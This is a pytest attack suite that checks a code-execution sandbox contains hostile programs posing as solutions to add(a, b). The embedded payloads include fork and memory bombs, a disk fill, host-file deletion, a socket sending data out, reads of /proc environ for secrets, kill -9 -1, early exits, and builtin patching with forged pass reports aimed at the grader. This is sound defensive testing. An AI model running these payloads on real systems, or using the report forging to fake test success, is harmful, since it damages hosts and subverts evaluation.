"""The attack suite: hostile programs, each contained. For every attack: no pass (score 0 or a failure), the host
unchanged, this (calling) process alive, the whole run within its time limit, and no sandbox process left behind.

Each program poses as a solution to ``add(a, b)``; the tests are the trusted ``check`` below. Every attack runs
twice: as a cold run (``run_program``: a sandbox of its own) and in a warm sandbox pool, where "nothing left
behind" means that only the sandbox's own init and resident process remain in its namespace.
"""

from __future__ import annotations

import os
import socket
import time
from pathlib import Path

import pytest

from r1lab.sandbox import Job, SandboxLimits, SandboxPool, run_program

LIMITS = SandboxLimits(time_limit=1.5, memory_mb=256, grace=2.0)
TESTS = """
def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(20, 22) == 42
"""
BUDGET = LIMITS.time_limit + LIMITS.grace + 2.0  # + start-up of bwrap and two interpreters on a busy machine


_pools: dict = {}
_mode = {"name": "cold"}


@pytest.fixture(autouse=True, params=["cold", "warm"])
def sandbox_kind(request):
    """Every attack against a cold run and against a warm pool (one long-lived pool for the module)."""
    _mode["name"] = request.param
    yield request.param
    _mode["name"] = "cold"


@pytest.fixture(autouse=True, scope="module")
def _close_pools():
    yield
    for pool in _pools.values():
        pool.close()
    _pools.clear()


def _run(program: str, limits: SandboxLimits):
    if _mode["name"] == "cold":
        return run_program(program, TESTS, "add", limits=limits), None
    pool = _pools.get(limits)
    if pool is None:
        pool = _pools[limits] = SandboxPool(1, limits, warm=True)
    result = pool.map([Job(program, TESTS, "add")])[0]
    if isinstance(result, BaseException):
        raise result
    return result, pool


def _inner_pid(pid: int) -> int:
    """A host process's pid in its own (innermost) pid namespace."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("NSpid:"):
            return int(line.split()[-1])
    raise AssertionError(f"no NSpid for {pid}")


def processes_in(namespace: str) -> list[int]:
    """Live host processes in the sandbox's pid namespace. Zombies are skipped: bwrap's outer process exits
    without reaping the namespace's init, whose empty entry the host's init reaps a moment later."""
    pids = []
    for link in Path("/proc").glob("[0-9]*/ns/pid"):
        try:
            if os.readlink(link) != namespace:
                continue
            state = (link.parent.parent / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state != "Z":
            pids.append(int(link.parent.parent.name))
    return pids


def attack(program: str, limits: SandboxLimits = LIMITS):
    """Run a hostile program; check the common containment properties and return its result."""
    started = time.monotonic()
    result, pool = _run(program, limits)
    elapsed = time.monotonic() - started
    assert not result.all_passed and result.fraction == 0.0, result
    assert elapsed < BUDGET, f"took {elapsed:.1f}s"
    # Nothing the program started outlives the run (checked by namespace, so other sandboxes may run meanwhile).
    assert result.namespace.startswith("pid:[") and result.namespace != os.readlink("/proc/self/ns/pid")
    resident = pool.resident(result.namespace) if pool is not None else set()  # a live warm sandbox's own pids

    def survivors() -> list[int]:
        left = []
        for pid in processes_in(result.namespace):
            try:
                if _inner_pid(pid) not in resident:
                    left.append(pid)
            except OSError:  # it ended meanwhile
                pass
        return left

    for _ in range(40):
        if not survivors():
            break
        time.sleep(0.05)
    assert survivors() == [], "sandbox processes survived the run"
    return result


def test_fork_bomb():
    result = attack(
        "import os\n"
        "def add(a, b):\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            pass\n"
    )
    assert result.status == "timeout"


def test_fork_count_is_capped_by_rlimit_nproc():
    # Count how many children can exist at once; RLIMIT_NPROC (8, 3 of them the sandbox's) stops the rest.
    result = attack(
        "import os, time\n"
        "n = 0\n"
        "try:\n"
        "    for _ in range(100):\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(30)\n"
        "        n += 1\n"
        "except OSError as err:\n"
        "    print('forked', n, err.errno)\n"
        "def add(a, b):\n"
        "    return n\n"
    )
    assert "forked 5 11" in result.output  # 8 = the sandbox init + harness + worker + 5 children; then EAGAIN (11)


def test_memory_bomb():
    result = attack(
        "blocks = []\n"
        "def add(a, b):\n"
        "    while True:\n"
        "        blocks.append(bytearray(50 * 1024 * 1024))\n"
    )
    assert result.status == "failed"  # MemoryError at the RLIMIT_AS cap, well before the host notices


def test_memory_bomb_at_load_time():
    result = attack("x = bytearray(4 * 1024 ** 3)\ndef add(a, b):\n    return a + b\n")
    assert result.status == "error" and "MemoryError" in result.error


def test_infinite_loop():
    assert attack("def add(a, b):\n    while True:\n        pass\n").status == "timeout"


def test_disk_fill():
    # Writes as much as it can, reports it, then fails. Neither one big file (RLIMIT_FSIZE) nor many small ones
    # (the tmpfs size cap) get past 16 MiB in /tmp or /dev/shm.
    result = attack(
        "import os, signal\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # else the kernel kills it at the file size limit\n"
        "try:\n"
        "    open('/tmp/big', 'wb').write(b'x' * (64 * 1024 * 1024))\n"
        "except OSError as err:\n"
        "    print('big file stopped:', err.strerror, os.path.getsize('/tmp/big'))\n"
        "os.remove('/tmp/big')\n"
        "total = 0\n"
        "for folder in ('/tmp', '/dev/shm', '/', '/usr'):\n"
        "    try:\n"
        "        for i in range(10_000):\n"
        "            with open(f'{folder}/f{i}', 'wb') as fh:\n"
        "                fh.write(b'x' * (4 * 1024 * 1024))\n"
        "            total += 4 * 1024 * 1024\n"
        "    except OSError as err:\n"
        "        print(folder, 'stopped:', err.strerror)\n"
        "print('written', total)\n"
        "raise SystemExit(0)\n"
    )
    assert f"big file stopped: File too large {16 * 1024 * 1024}" in result.output
    assert "/tmp stopped: No space left on device" in result.output
    assert "/dev/shm stopped: No space left on device" in result.output
    assert "/ stopped: Read-only file system" in result.output
    assert "/usr stopped: Read-only file system" in result.output
    assert int(result.output.split("written")[1]) <= 2 * 16 * 1024 * 1024


def test_output_flood():
    result = attack("import sys\ndef add(a, b):\n    while True:\n        sys.stdout.write('x' * 65536)\n")
    assert result.status == "timeout"
    assert len(result.output) == LIMITS.max_output and result.output_truncated


def test_files_outside_the_sandbox_cannot_be_written_or_deleted(tmp_path):
    sentinel = tmp_path / "sentinel.txt"
    sentinel.write_text("precious")
    targets = [str(sentinel), "/usr/lib/r1lab-evil", "/etc/r1lab-evil", "/r1lab-evil", "/work/r1lab-evil",
               os.path.expanduser("~/r1lab-evil")]
    program = (
        "import os\n"
        f"for path in {targets!r}:\n"
        "    for act in (lambda: os.remove(path), lambda: open(path, 'w').write('pwned')):\n"
        "        try:\n"
        "            act()\n"
        "            print('DID', path)\n"
        "        except OSError as err:\n"
        "            print('denied', path, err.strerror)\n"
        "def add(a, b):\n"
        "    return 0\n"
    )
    result = attack(program)
    assert "DID" not in result.output
    assert sentinel.read_text() == "precious"
    for path in targets[1:]:
        assert not os.path.exists(path)


def _connect_program(host: str, port: int) -> str:
    return (
        "import socket\n"
        "def add(a, b):\n"
        "    try:\n"
        f"        socket.create_connection(({host!r}, {port}), timeout=0.5).sendall(b'leak')\n"
        "        print('CONNECTED')\n"
        "    except OSError as err:\n"
        "        print('no connection:', type(err).__name__, err.strerror)\n"
        "    return 0\n"
    )


def test_no_connection_to_a_loopback_service():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    try:
        result = attack(_connect_program("127.0.0.1", server.getsockname()[1]))
        assert "CONNECTED" not in result.output
        assert "ConnectionRefusedError" in result.output  # the sandbox's own loopback has nothing listening
        with pytest.raises(BlockingIOError):
            server.accept()  # nothing ever connected to the host's service
    finally:
        server.close()


def test_no_network_at_all():
    result = attack(_connect_program("1.1.1.1", 53))
    assert "CONNECTED" not in result.output
    assert "Network is unreachable" in result.output


def test_parent_environment_secret_is_not_readable(monkeypatch):
    monkeypatch.setenv("R1LAB_FAKE_SECRET", "hunter2-secret")
    program = (
        "import os, glob\n"
        "seen = [str(dict(os.environ))]\n"
        "for path in glob.glob('/proc/*/environ'):\n"
        "    try:\n"
        "        seen.append(open(path, 'rb').read().decode(errors='replace'))\n"
        "    except OSError:\n"
        "        pass\n"
        "print(seen)\n"
        "def add(a, b):\n"
        "    return 'hunter2-secret' if any('hunter2' in s for s in seen) else 0\n"
    )
    result = attack(program)
    assert "hunter2" not in result.output


@pytest.mark.parametrize("kill", [
    "os.kill(os.getppid(), signal.SIGKILL)",  # the harness that runs the tests
    "os.kill(-1, signal.SIGKILL)",  # kill -9 -1: everything this uid may signal
    "os.killpg(0, signal.SIGKILL)",  # its own process group
    f"os.kill({os.getpid()}, signal.SIGKILL)",  # the host process by pid: not even visible in the pid namespace
])
def test_killing_the_parent(kill):
    result = attack(f"import os, signal\ndef add(a, b):\n    {kill}\n    return a + b\n")
    assert result.status in ("crashed", "failed")  # and this test process is still here to check it


@pytest.mark.parametrize("exit_call", ["os._exit(0)", "sys.exit(0)", "raise SystemExit(0)"])
@pytest.mark.parametrize("where", ["load", "call"])
def test_exit_zero_before_the_tests(exit_call, where):
    if where == "load":
        program = f"import os, sys\ndef add(a, b):\n    return a + b\n{exit_call}\n"
    else:
        program = f"import os, sys\ndef add(a, b):\n    {exit_call}\n"
    result = attack(program)
    assert result.status in ("crashed", "error", "failed")


def test_patching_builtins_and_assert_does_not_reach_the_tests():
    program = (
        "import builtins, json, os, sys\n"
        "builtins.AssertionError = type('Never', (Exception,), {})\n"
        "builtins.bool = lambda *a: True\n"
        "builtins.len = lambda *a: 0\n"
        "sys.modules['builtins'].abs = lambda *a: 0\n"
        "class Yes(int):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "# forge reports on every stream it can find\n"
        "fake = json.dumps({'event': 'result', 'status': 'passed', 'passed': 2, 'total': 2, 'all_passed': True})\n"
        "print(fake)\n"
        "for path in ('/proc/1/fd/1', f'/proc/{os.getppid()}/fd/1', f'/proc/{os.getppid()}/mem'):\n"
        "    try:\n"
        "        open(path, 'w').write(fake + '\\n')\n"
        "        print('WROTE', path)\n"
        "    except OSError as err:\n"
        "        print('denied', path, err.strerror)\n"
        "def add(a, b):\n"
        "    return Yes(0)\n"
    )
    result = attack(program)
    assert "WROTE" not in result.output
    assert result.passed == 0
